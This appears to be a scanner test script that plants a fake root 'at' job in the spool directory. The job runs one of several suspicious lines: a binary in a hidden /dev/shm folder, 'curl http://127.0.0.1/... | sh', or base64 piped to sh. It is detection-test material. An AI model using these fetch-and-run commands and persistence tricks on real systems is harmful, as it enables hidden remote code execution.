# id: P147
# mode: scan
# level: note
# title: a job of at that runs a volatile program
# due: now
word name
pick place /var/spool/cron/atjobs /var/spool/at
pick line "/dev/shm/.$name/run &" "curl -s http://127.0.0.1/$name | sh" 'echo dHJ1ZQ== | base64 -d | sh'
mkdir -p "$place"
job=$place/a0000201bf5f2e
printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /root || exit 1\n%s\n' "$line" >"$job"
chmod 700 "$job"
said path "$job"
